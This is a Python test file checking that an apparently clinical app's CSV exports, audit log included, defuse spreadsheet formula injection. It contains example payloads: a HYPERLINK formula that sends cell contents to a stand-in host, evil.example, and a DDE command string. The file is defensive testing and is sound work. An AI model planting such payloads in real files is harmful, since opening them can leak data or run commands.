"""Tables that leave as CSV: no text in them is a formula where somebody opens them, whoever wrote it."""

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine

from companion.care import audit
from companion.db import writing
from companion.exporting.as_csv import cell
from tests.people import NOON, Cast

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("rest", ["1+1", "cmd|' /C calc'!A0", '"","=1"', ""])
def test_a_cell_is_text_and_comes_back_whole(start: str, rest: str) -> None:
    out = io.StringIO(newline="")

    csv.writer(out, lineterminator="\r\n").writerow([cell(start + rest), "next"])

    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["'" + start + rest, "next"]


def test_what_people_did_leaves_the_audit_as_text(engine: Engine, cast: Cast, signed_in: Any) -> None:
    with writing(engine) as session:
        audit.note(session, actor=FORMULA, action=FORMULA, now=NOON, patient=FORMULA, thing=FORMULA)
    office = signed_in(cast.admin)

    answer = office.get("/clinic/audit/acts.csv")

    cells = [one for row in csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))) for one in row]
    assert f"'{FORMULA}" in cells
    assert not [one for one in cells if one.startswith(STARTS)]


def test_every_table_that_is_written_goes_through_the_cell() -> None:
    written = {path for path in (ROOT / "companion").rglob("*.py") if "csv.writer(" in path.read_text("utf-8")}

    unguarded = [path.name for path in sorted(written) if not _writes_cells_only(path)]

    assert len(written) >= 3
    assert not unguarded


def _writes_cells_only(path: Path) -> bool:
    """Whether each `writerow` writes the columns' names, or cells."""
    rows = [
        ast.unparse(node.args[0])
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "writerow"
    ]
    return all("cell(" in row or "columns" in row.casefold() for row in rows)
